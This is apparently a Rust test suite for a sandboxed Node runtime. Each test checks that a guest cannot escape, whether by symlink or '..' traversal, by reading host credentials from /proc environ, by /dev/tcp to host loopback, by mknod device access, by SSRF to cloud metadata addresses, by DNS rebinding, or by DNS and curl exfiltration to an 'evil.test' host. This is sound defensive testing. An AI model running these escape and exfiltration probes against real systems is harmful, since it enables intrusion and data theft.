//! What a guest must never reach. Each test names its threat.
#![expect(clippy::unwrap_used, reason = "a test target")]

use cenote::NodeRuntime;

fn block_on<T>(future: impl Future<Output = T>) -> T {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(future)
}

/// What a script prints in a fresh machine, both streams.
async fn shell(rt: &NodeRuntime, script: &str) -> String {
    let out = rt.exec_command("bash", ["-c", script]).await.unwrap();
    format!("{}{}", out.stdout, out.stderr)
}

/// Threat: a link in a mounted directory leads to a file of the host outside it.
#[test]
fn link_in_a_mount_does_not_lead_out_of_it() {
    let host = tempfile::tempdir().unwrap();
    let secret = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(secret.path(), "host secret").unwrap();
    std::os::unix::fs::symlink(secret.path(), host.path().join("absolute")).unwrap();
    std::os::unix::fs::symlink(
        "../../../../../../etc/hostname",
        host.path().join("relative"),
    )
    .unwrap();
    std::os::unix::fs::symlink("/", host.path().join("root")).unwrap();
    block_on(async {
        let rt = NodeRuntime::builder()
            .mount_read_write(host.path(), "/mnt/host")
            .create()
            .await
            .unwrap();
        let seen = shell(&rt, "cat /mnt/host/absolute; cat /mnt/host/relative; ls /mnt/host/root/etc; cat /mnt/host/root/../../etc/hostname").await;
        assert!(!seen.contains("host secret"), "{seen}");
        let own = std::fs::read_to_string("/etc/hostname").unwrap_or_default();
        assert!(
            own.trim().is_empty() || own.trim() == "vm" || !seen.contains(own.trim()),
            "{seen}"
        );
        // A link the guest plants and follows is the machine's own too.
        let planted = format!(
            "ln -s {0} /mnt/host/planted; cat /mnt/host/planted",
            secret.path().display()
        );
        assert!(!shell(&rt, &planted).await.contains("host secret"));
    });
}

/// Threat: `..` climbs out of a mounted directory into the host's tree.
#[test]
fn dot_dot_stays_in_the_machine() {
    let outer = tempfile::tempdir().unwrap();
    std::fs::write(outer.path().join("outside"), "host secret").unwrap();
    std::fs::create_dir(outer.path().join("inner")).unwrap();
    block_on(async {
        let rt = NodeRuntime::builder()
            .mount(outer.path().join("inner"), "/mnt/inner")
            .create()
            .await
            .unwrap();
        let seen = shell(
            &rt,
            "cat /mnt/inner/../outside; cd /mnt/inner; cat ../outside; ls ..",
        )
        .await;
        assert!(!seen.contains("host secret"), "{seen}");
    });
}

/// Threat: the host's environment, which carries credentials, is visible to guests.
#[test]
fn host_environment_is_not_visible() {
    // `cargo` sets this for every test.
    let (name, value) = ("CARGO_MANIFEST_DIR", env!("CARGO_MANIFEST_DIR"));
    block_on(async {
        let rt = NodeRuntime::create().await.unwrap();
        let seen = shell(
            &rt,
            "env; tr '\\0' '\\n' < /proc/self/environ; tr '\\0' '\\n' < /proc/1/environ",
        )
        .await;
        assert!(!seen.contains(name) && !seen.contains(value), "{seen}");
        let out = rt
            .exec("console.log(JSON.stringify(process.env))")
            .await
            .unwrap();
        assert!(!out.stdout.text().contains(name), "{}", out.stdout);
    });
}

/// Threat: a guest signals or inspects a process of the host by its number.
#[test]
fn host_processes_are_not_there() {
    block_on(async {
        let rt = NodeRuntime::create().await.unwrap();
        let own = std::process::id();
        let seen = shell(
            &rt,
            &format!("kill -0 {own}; ls -d /proc/{own}; ls /proc | grep -c '^[0-9]'"),
        )
        .await;
        assert!(
            seen.contains("No such process") && seen.contains("No such file"),
            "{seen}"
        );
        let out = rt
            .exec(format!("try {{ process.kill({own}, 0); console.log('reached') }} catch (e) {{ console.log(e.code) }}"))
            .await
            .unwrap();
        assert_eq!(out.stdout.text(), "ESRCH\n");
    });
}

/// Threat: a guest connects to a server on the host's loopback.
#[test]
fn host_loopback_is_another_network() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    block_on(async {
        let rt = NodeRuntime::create().await.unwrap();
        let seen = shell(
            &rt,
            &format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo reached"),
        )
        .await;
        assert!(!seen.contains("reached"), "{seen}");
    });
    let nobody = listener.accept().unwrap_err();
    assert_eq!(nobody.kind(), std::io::ErrorKind::WouldBlock);
}

/// Threat: two machines of one host process see each other's files or processes.
#[test]
fn machines_share_nothing() {
    block_on(async {
        let (one, other) = (
            NodeRuntime::create().await.unwrap(),
            NodeRuntime::create().await.unwrap(),
        );
        one.write_file("/tmp/note", "of one").await.unwrap();
        let sleeper = one.spawn_command("sleep", ["1000"]).await.unwrap();
        let seen = shell(
            &other,
            &format!("cat /tmp/note; ps ax; kill -9 {}", sleeper.pid()),
        )
        .await;
        assert!(
            !seen.contains("of one") && !seen.contains("sleep 1000"),
            "{seen}"
        );
        assert_eq!(sleeper.exit_code(), None);
        // What one writes over a shipped file is its own.
        one.write_file("/etc/passwd", "gone").await.unwrap();
        assert!(shell(&other, "cat /etc/passwd").await.contains("root:"));
    });
}

/// Threat: a native addon runs host code in our process.
#[test]
fn native_addon_is_refused() {
    block_on(async {
        let rt = NodeRuntime::builder()
            .file("/root/addon.node", b"\x7fELF".to_vec())
            .create()
            .await
            .unwrap();
        let out = rt
            .exec(
                "try { require('/root/addon.node') } catch (e) { console.log(e.code, e.message) }",
            )
            .common_js()
            .await
            .unwrap();
        assert!(
            out.stdout.text().starts_with("ERR_DLOPEN_FAILED"),
            "{}{}",
            out.stdout,
            out.stderr
        );
    });
}

/// Threat: a device node made by the guest's superuser reaches the host's disk or memory.
#[test]
fn device_nodes_reach_no_device_of_the_host() {
    block_on(async {
        let rt = NodeRuntime::create().await.unwrap();
        let seen = shell(&rt, "mknod /tmp/disk b 8 0; mknod /tmp/vda b 254 0; mknod /tmp/mem c 1 1; for f in disk vda mem; do head -c 16 /tmp/$f && echo REACHED; done").await;
        assert!(!seen.contains("REACHED"), "{seen}");
    });
}

/// Threat: the machine's superuser gains rights over host files it was shown read-only.
#[test]
fn superuser_of_the_machine_cannot_change_a_read_only_mount() {
    let host = tempfile::tempdir().unwrap();
    std::fs::write(host.path().join("file"), "as it was").unwrap();
    block_on(async {
        let rt = NodeRuntime::builder()
            .mount(host.path(), "/mnt/ro")
            .create()
            .await
            .unwrap();
        let attempts = "cd /mnt/ro; echo x > file; rm file; mv file other; chmod 777 file; truncate -s 0 file; ln file hard; touch new; mkdir d; mount -o remount,rw /mnt/ro";
        shell(&rt, attempts).await;
        let out = rt
            .exec("import fs from 'node:fs'; for (const f of ['writeFileSync', 'unlinkSync', 'truncateSync']) try { fs[f]('/mnt/ro/file', 'x') } catch (e) { console.log(e.code) }")
            .await
            .unwrap();
        assert_eq!(out.stdout.text(), "EROFS\nEROFS\nEROFS\n");
    });
    assert_eq!(
        std::fs::read_to_string(host.path().join("file")).unwrap(),
        "as it was"
    );
    assert_eq!(host.path().read_dir().unwrap().count(), 1);
}

/// What a machine answers that may reach every public address, and whether anything reached the server of the host.
fn attempts_at(
    targets: &[String],
    resolver: Option<Rebinding>,
    server: &std::net::TcpListener,
) -> String {
    server.set_nonblocking(true).unwrap();
    let port = server.local_addr().unwrap().port();
    let seen = block_on(async {
        let mut builder = NodeRuntime::builder().permissions(cenote::Permissions {
            network: vec![cenote::NetworkRule::allow("*")],
            ..cenote::Permissions::default()
        });
        if let Some(resolver) = resolver {
            builder = builder.resolver(resolver);
        }
        let rt = builder.create().await.unwrap();
        let code = format!(
            r#"import net from "node:net";
               for (const host of {targets:?})
                   console.log(host, await new Promise((done) => net.connect({{ host, port: {port} }}).on("error", (e) => done(e.code)).on("connect", () => done("connected"))));"#
        );
        let out = rt.exec(code).await.unwrap();
        format!("{}{}", out.stdout, out.stderr)
    });
    let nobody = server.accept().unwrap_err();
    assert_eq!(nobody.kind(), std::io::ErrorKind::WouldBlock, "{seen}");
    seen
}

/// Threat: a permission for the internet reaches the host's own services and its cloud's metadata, plainly or in disguise.
#[test]
fn open_network_does_not_open_the_hosts_own() {
    let server = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    let targets = [
        "169.254.169.254",
        "10.0.0.1",
        "172.16.0.1",
        "192.168.0.1",
        "100.64.0.1",
        "0.1.2.3",
        "224.0.0.1",
        "255.255.255.255",
        "::ffff:169.254.169.254",
        "::ffff:10.0.0.1",
        "::127.0.0.1",
        "64:ff9b::127.0.0.1",
        "64:ff9b::169.254.169.254",
        "2002:7f00:1::",
        "fd00:ec2::254",
        "fe80::1",
        "fc00::1",
        "ff02::1",
    ]
    .map(str::to_owned);
    let seen = attempts_at(&targets, None, &server);
    for (line, target) in seen.lines().zip(&targets) {
        assert_eq!(line, format!("{target} EACCES"), "{seen}");
    }
    assert_eq!(seen.lines().count(), targets.len(), "{seen}");
    // The machine's loopback is its own.
    let own = [
        "127.0.0.1",
        "127.1.2.3",
        "::1",
        "::ffff:127.0.0.1",
        "0.0.0.0",
        "::",
    ]
    .map(str::to_owned);
    let seen = attempts_at(&own, None, &server);
    assert!(
        seen.lines().all(|line| line.ends_with(" ECONNREFUSED")),
        "{seen}"
    );
}

/// Answers each question with the next address, and the last for ever.
#[derive(Debug)]
struct Rebinding(std::sync::Mutex<Vec<std::net::IpAddr>>);

impl cenote::Resolve for Rebinding {
    fn resolve<'a>(&'a self, _name: &'a str) -> cenote::Resolving<'a> {
        let mut answers = self.0.lock().unwrap();
        let next = if answers.len() > 1 {
            answers.remove(0)
        } else {
            answers[0]
        };
        Box::pin(async move { Ok(vec![next]) })
    }
}

/// Threat: a name is public when it is checked and private when it is connected (DNS rebinding).
#[test]
fn name_that_changes_its_address_opens_nothing() {
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let resolver = Rebinding(std::sync::Mutex::new(
        ["10.0.0.1", "169.254.169.254", "127.0.0.1"]
            .map(|text| text.parse().unwrap())
            .to_vec(),
    ));
    let targets = ["a.test", "a.test", "a.test", "a.test"].map(str::to_owned);
    let seen = attempts_at(&targets, Some(resolver), &server);
    assert!(
        !seen.contains("connected") && seen.contains("EACCES") && seen.contains("ECONNREFUSED"),
        "{seen}"
    );
}

/// Threat: data leaves in the names a guest asks for.
#[test]
fn names_no_rule_allows_are_not_asked_for() {
    #[derive(Debug)]
    struct Never;
    impl cenote::Resolve for Never {
        fn resolve<'a>(&'a self, name: &'a str) -> cenote::Resolving<'a> {
            panic!("asked for {name}");
        }
    }
    block_on(async {
        let rt = NodeRuntime::builder()
            .permissions(cenote::Permissions {
                network: vec![
                    cenote::NetworkRule::allow("api.example.com:443"),
                    cenote::NetworkRule::allow("192.0.2.0/24"),
                ],
                ..cenote::Permissions::default()
            })
            .resolver(Never)
            .create()
            .await
            .unwrap();
        let out = rt
            .exec(
                r#"import dns from "node:dns";
                   const asks = [() => dns.promises.lookup("c2VjcmV0.evil.test"), () => dns.promises.resolveTxt("c2VjcmV0.evil.test"), () => dns.promises.resolve4("api.example.com.evil.test")];
                   for (const ask of asks) console.log(await ask().catch((e) => e.code));"#,
            )
            .await
            .unwrap();
        assert_eq!(
            out.stdout.text(),
            "ENOTFOUND\nENOTFOUND\nENOTFOUND\n",
            "{}",
            out.stderr
        );
        let seen = shell(&rt, "curl -s http://c2VjcmV0.evil.test/; echo $?").await;
        assert_eq!(seen, "6\n");
    });
}
